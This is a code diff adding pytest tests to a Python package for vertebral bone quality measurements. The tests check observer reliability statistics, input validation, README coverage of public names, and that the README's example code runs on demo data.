+    # inter-observer: the two observers of session 1 (chosen automatically)
+    inter = inter_observer_vbq(store)
+    assert inter.columns.tolist() == ["patient_id", "AB/1", "CD/1"]
+    assert reliability(inter).icc.n == 12
+    # the intra observer is chosen automatically when only one read both sessions
+    pd.testing.assert_frame_equal(intra_observer_vbq(store), intra)
+
+
+def test_reliability_choices_are_checked(store):
+    _reliability_store(store, n=3)
+    with pytest.raises(InputError, match="at least 2 different"):
+        vbq_wide(store, [("AB", 1)])
+    with pytest.raises(InputError, match="no readings for"):
+        vbq_wide(store, [("AB", 1), ("ZZ", 1)])
+    with pytest.raises(InputError, match="need 2 observers"):
+        inter_observer_vbq(store, session=2)
+    three = vbq_wide(store, [("AB", 1), ("AB", 2), ("CD", 1)])
+    res = reliability(three)
+    assert res.icc.n_raters == 3 and isinstance(res.bland_altman, str)
+
+
+# --------------------------------------------------------------------------------------------
+# documentation
+
+
+def test_every_public_name_is_in_the_readme():
+    import inspect
+
+    import vbq.export
+    import vbq.measurements
+
+    readme = (Path(vbq.__file__).resolve().parents[1] / "README.md").read_text()
+    names = [*vbq.measurements.__all__, *vbq.export.__all__]
+    names += [f"store.{m}" for m, _ in inspect.getmembers(MeasurementStore)
+              if not m.startswith("_") and callable(getattr(MeasurementStore, m))]
+    missing = [n for n in names if n not in readme and not n.endswith("Result")
+               and n not in ("CohortMerge", "FORMULA_TRIGGERS", "COMBINE")]
+    assert not missing, missing
+    assert vbq.measurements is __import__("vbq.measurements").measurements
+
+
+def test_readme_measurement_block_runs_on_the_demo(tmp_path, monkeypatch):
+    # the README's example, executed as written, with the default database in a temporary folder
+    import re
+
+    import vbq.measurements as m
+
+    monkeypatch.setattr(m, "DEFAULT_PATH", tmp_path / "data" / "measurements.sqlite")
+    readme = (Path(vbq.__file__).resolve().parents[1] / "README.md").read_text()
+    section = readme.split("### Measurement database (notebook)", 1)[1]
+    code = re.search(r"```python\n(.*?)```", section, re.S).group(1)
+    cohort, dxa = vbq.demo.load()
+    scope = {"vbq": vbq, "cohort": cohort, "dxa": dxa}
+    exec(compile(code, "README.md", "exec"), scope)  # our own documentation, run as written
+    assert (tmp_path / "data" / "measurements.sqlite").exists()
+    table = scope["prepared"].table
+    assert table.loc[table["patient_id"] == "DEMO-001", "vbq"].item() == 315.0 / 110.0
+    assert scope["merged"].measured == ("DEMO-001",)
